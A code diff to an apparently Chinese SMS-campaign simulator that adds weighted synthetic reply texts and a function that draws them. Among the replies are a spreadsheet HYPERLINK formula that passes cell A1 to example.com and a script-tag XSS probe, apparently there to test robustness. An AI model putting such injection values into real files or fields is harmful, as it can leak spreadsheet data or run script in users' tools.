@@ -1,4 +1,4 @@
-"""A believable population: who is reached, how fast, and with which code it fails.
+"""A believable population: who is reached, how fast, with which code it fails, and what people write back.
 
 Nothing here was measured on the real platform. The shapes are those that operators describe: most messages arrive within
 seconds, some after minutes, a few when a phone is switched on again the next morning; numbers that are dead stay dead;
@@ -13,8 +13,7 @@ from functools import cached_property
 import numpy as np
 import numpy.typing as npt
 
-from masanalytics.simulator.behaviour import Draw, Fates
-from masanalytics.simulator.carriers import carrier_index
+from masanalytics.simulator.behaviour import Draw, Fates, Reply
 from masanalytics.simulator.failure_codes import (
     ALIVE,
     BLOCKED,
@@ -24,14 +23,14 @@ from masanalytics.simulator.failure_codes import (
     FAULT,
     OFF,
     SUSPENDED,
+    carrier_index,
     pick_codes,
 )
 from masanalytics.simulator.random_keys import Floats, Ints, Keys, normal, number_keys, uniform
-from masanalytics.simulator.replies import draw_replies
 from masanalytics.timezone import CHINA_OFFSET_S
 from masanalytics.vocabulary import CARRIERS
 
-__all__ = ["STATES", "Incident", "Population"]
+__all__ = ["REPLY_TEXTS", "STATES", "Incident", "Population"]
 
 STATES = ("alive", "empty", "suspended", "blocked", "off")
 """What a number can be, in the order of `masanalytics.simulator.failure_codes`."""
@@ -43,6 +42,48 @@ _FAULTS = np.array([0.8, 1.4, 1.1, 2.0, 2.0])
 _SILENT = np.array([0.6, 1.4, 1.6, 4.0, 2.0])
 _DAY_S = 86_400.0
 _LATEST_S = 71 * 3600.0
+
+# What people write back, with weights; among it what no careful system expects.
+_WEIGHTED_REPLIES = {
+    "T": 14,
+    "TD": 7,
+    "退订": 9,
+    "R": 6,
+    "t": 3,
+    "td": 2,
+    "Ｔ": 1,
+    "ＴＤ": 2,
+    " TD ": 1,
+    "N": 2,
+    "QX": 1,
+    "0000": 1,
+    "T退订": 1,
+    "怎么退订？": 2,
+    "我要退订，谢谢": 1,
+    "别再发了": 4,
+    "再发我就投诉了": 2,
+    "你们怎么有我的号码": 2,
+    "骗子": 1,
+    "谢谢": 6,
+    "收到": 6,
+    "好的": 5,
+    "1": 4,
+    "请问活动到什么时候？": 4,
+    "门店在哪里？": 3,
+    "怎么参加": 3,
+    "我已经办过了": 2,
+    "你发错人了，我不姓王": 1,
+    "在开会，稍后联系": 2,
+    "👍": 1,
+    "嗯": 2,
+    '=HYPERLINK("http://example.com/?u="&A1,"点我领奖")': 1,
+    "<script>alert('你好')</script>": 1,
+    "+86": 1,
+}
+REPLY_TEXTS = tuple(_WEIGHTED_REPLIES)
+"""Every text that can be written back."""
+
+_REPLY_SHARES = np.cumsum(list(_WEIGHTED_REPLIES.values())) / sum(_WEIGHTED_REPLIES.values())
 
 
 @dataclass(frozen=True)
@@ -148,7 +189,7 @@ class Population:
         read = np.where(code == 0, latency, np.inf)
         latency[uniform(batch.keys, 30) < self.unreported * _SILENT[carriers]] = np.inf
         lag = 0.2 + 1.8 * uniform(batch.keys, 31)
-        return Fates(self.codes, code, latency, lag, draw_replies(batch.keys, read, self.reply))
+        return Fates(self.codes, code, latency, lag, _draw_replies(batch.keys, read, self.reply))
 
     def state_of(self, phones: Ints, seed: int) -> list[str]:
         """Return what each number is in a simulator with that `seed`: one of `STATES`.
@@ -202,3 +243,20 @@ class Population:
 def _darkness(hour: float) -> float:
     """Return how much of the night it is: 1 in its middle, 0 by day."""
     return float(np.interp(hour, [0.0, 5.5, 8.0, 22.0, 24.0], [1.0, 1.0, 0.0, 0.0, 1.0]))
+
+
+def _draw_replies(keys: Keys, received: Floats, share: float) -> tuple[Reply, ...]:
+    """Return the replies to messages whose text arrived after `received` seconds (infinite: never).
+
+    Half of them come within three minutes of the message, some the next day.
+    """
+    chosen = np.flatnonzero((uniform(keys, 40) < share) & np.isfinite(received))
+    if not len(chosen):
+        return ()
+    writers = keys[chosen]
+    after = received[chosen] + 5.0 + 170.0 * np.exp(1.4 * normal(writers, 41))
+    texts = np.searchsorted(_REPLY_SHARES, uniform(writers, 42), side="right")
+    return tuple(
+        Reply(index, seconds, REPLY_TEXTS[text])
+        for index, seconds, text in zip(chosen.tolist(), after.tolist(), texts.tolist(), strict=True)
+    )
